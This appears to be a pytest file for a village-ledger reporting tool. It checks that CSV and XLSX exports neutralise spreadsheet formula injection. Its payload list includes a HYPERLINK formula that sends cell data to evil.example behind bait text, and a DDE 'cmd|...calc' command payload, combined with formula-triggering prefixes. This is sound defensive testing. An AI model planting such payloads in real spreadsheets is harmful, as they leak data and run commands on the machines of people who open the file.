"""``cunzhang report --format csv`` never hands a spreadsheet a formula (CSV injection).

A village whose payees, project names and kinds, dispatching units and secretaries are
generated formulas (each dangerous start × a few payloads), and whose own folder name is
one, is reported through the real CLI; every cell of every CSV must be safe text or a
number, and negative amounts must stay plain numbers (``-37654.33``).
"""

from __future__ import annotations

import csv
import datetime
import io
import itertools
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest
from openpyxl import Workbook

from projects.disclosure_render import put
from projects.register_reports import COLUMNS as REGISTER_COLUMNS
from projects.reports import COLUMNS
from scripts.village import new_village
from tests.conftest import run_cli
from tests.ledgertext import opens

#: What a spreadsheet runs as a formula, also after leading spaces (OWASP CSV injection).
STARTS = ["=", "+", "-", "@", "\t", "\r", " =", "\u3000+", " \t@"]
PAYLOADS = [
    'HYPERLINK("http://evil.example/?d="&A1,"点此领取补贴")',
    "1+1",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
]
ATTACKS = [start + payload for start, payload in itertools.product(STARTS, PAYLOADS)]
BANK = "Assets:102-银行存款:10201-农商行"
VILLAGES = ["测试村", "=1+2村"]
STEPS = ["提议", "商议", "审议", "决议", "决议公开"]


def quoted(text: str) -> str:
    """A Beancount string literal."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def declarations() -> str:
    """A project per attack, decided on: named and kinded by the attack, which is also a
    secretary and a unit that pledged and claims money never seen (a finding)."""
    lines = []
    for i, attack in enumerate(ATTACKS):
        lines += [f'2024-01-1{d} custom "project-step" "P{i}" "{s}"' for d, s in enumerate(STEPS)]
        lines += [
            f'2024-01-05 custom "project" "P{i}" {quoted(attack)}',
            f"  kind: {quoted(attack)}",
            "  budget: 1000.00 CNY",
            f'2024-01-06 custom "secretary" {quoted(attack)} {quoted(attack)}',
            f'2024-01-07 custom "fund-pledge" {quoted(attack)} "帮扶资金" 800.00 CNY',
            f'  project: "P{i}"',
            f'2024-01-08 custom "fund-landed" {quoted(attack)} "帮扶资金" 100.00 CNY',
        ]
    return "\n".join(lines) + "\n"


def journal() -> str:
    """Per project: money in from the attack as payee, then spending; operating income
    falls from 2024 to 2025 (a negative change)."""
    text = ""
    for i, attack in enumerate(ATTACKS):
        text += f"""
2024-02-01 * {quoted(attack)} "拨款" ^P{i}
  {BANK}   500.00 CNY
  Liabilities:241-专项应付款:24101-项目
2024-03-01 * "工程款" ^P{i}
  Expenses:514-公益支出:51401-道路   300.00 CNY
  {BANK}
"""
    return (
        text
        + f"""
2024-01-01 * "期初" #opening
  {BANK}   500000.00 CNY
  Equity:301-资本
2024-06-01 * "香菇销售"
  {BANK}   50000.00 CNY
  Income:501-经营收入:50101-香菇销售
2025-06-01 * "香菇销售"
  {BANK}   12345.67 CNY
  Income:501-经营收入:50101-香菇销售
"""
    )


@pytest.fixture(scope="module")
def township(tmp_path_factory: pytest.TempPathFactory) -> Path:
    ledgers = tmp_path_factory.mktemp("ledgers")
    for village in VILLAGES:
        folder = new_village(ledgers, f"测试镇/{village}", datetime.date(2024, 1, 1))
        (folder / "projects.beancount").write_text(declarations(), "utf-8")
        body = journal()
        (folder / "journal" / "2024.beancount").write_text(
            opens(body, "2024-01-01", first_level=False) + "\n" + body, "utf-8"
        )
    return ledgers / "测试镇"


def report_csv(township: Path, name: str) -> list[list[str]]:
    result = run_cli("report", name, str(township), "--format", "csv")
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout, newline="")))


def number(text: str) -> Decimal | None:
    """The number a cell holds (``-1234.50``, ``-0.1250``, ``2024``), else ``None``."""
    try:
        return Decimal(text)
    except InvalidOperation:
        return None


def dangerous(text: str) -> bool:
    """Starts like a formula, also after whitespace (written here apart from the code)."""
    return text[:1] in ("\t", "\r") or text.lstrip()[:1] in ("=", "+", "-", "@")


#: The reports this township fills (it declares no 三资 registers).
FILLED = sorted(set(COLUMNS) - set(REGISTER_COLUMNS))


@pytest.mark.parametrize("name", FILLED)
def test_no_csv_cell_starts_a_formula(township: Path, monkeypatch, tmp_path, name: str) -> None:
    monkeypatch.setenv("CUNZHANG_CACHE", str(tmp_path))
    rows = report_csv(township, name)
    assert len(rows) > 2
    cells = [c for row in rows for c in row]
    unsafe = [c for c in cells if dangerous(c) and number(c) is None]
    assert unsafe == []
    neutralised = [c for c in cells if c.startswith("'") and dangerous(c[1:])]
    assert neutralised  # the attacks reached this report, quoted


def column(rows: list[list[str]], header: str) -> list[str]:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


def test_every_attack_comes_out_quoted_and_whole(township: Path, monkeypatch, tmp_path) -> None:
    monkeypatch.setenv("CUNZHANG_CACHE", str(tmp_path))
    rows = report_csv(township, "projects")
    quoted_attacks = {"'" + attack for attack in ATTACKS}
    for village in VILLAGES:
        mine = [row for row in rows[1:] if row[1] in (village, "'" + village)]
        names = {row[rows[0].index("项目名称")] for row in mine}
        kinds = {row[rows[0].index("类别")] for row in mine}
        sources = {row[rows[0].index("到位资金来源")] for row in mine}
        assert names == kinds == quoted_attacks
        assert sources == {f"{text} 500.00" for text in quoted_attacks}
    assert set(column(rows, "村")) >= {"测试村", "'=1+2村"}


def test_negative_amounts_stay_numbers(township: Path, monkeypatch, tmp_path) -> None:
    monkeypatch.setenv("CUNZHANG_CACHE", str(tmp_path))
    income = report_csv(township, "income")
    changes = [c for c in column(income, "口径金额比上年增减") if c]
    assert changes == ["-37654.33", "-37654.33"]  # 2025 against 2024, in each village
    assert {number(c) for c in changes} == {Decimal("-37654.33")}


def test_the_xlsx_writer_keeps_the_same_attacks_text() -> None:
    """The disclosure's XLSX cells use the same test (``projects.text.formula_like``)."""
    sheet = Workbook().active
    for row, attack in enumerate(ATTACKS, 1):
        put(sheet, row, 1, attack)
    put(sheet, len(ATTACKS) + 1, 1, Decimal("-37654.33"))
    cells = [sheet.cell(row, 1) for row in range(1, len(ATTACKS) + 1)]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    negative = sheet.cell(len(ATTACKS) + 1, 1)
    assert (negative.value, negative.data_type, negative.quotePrefix) == (
        Decimal("-37654.33"),
        "n",
        False,
    )
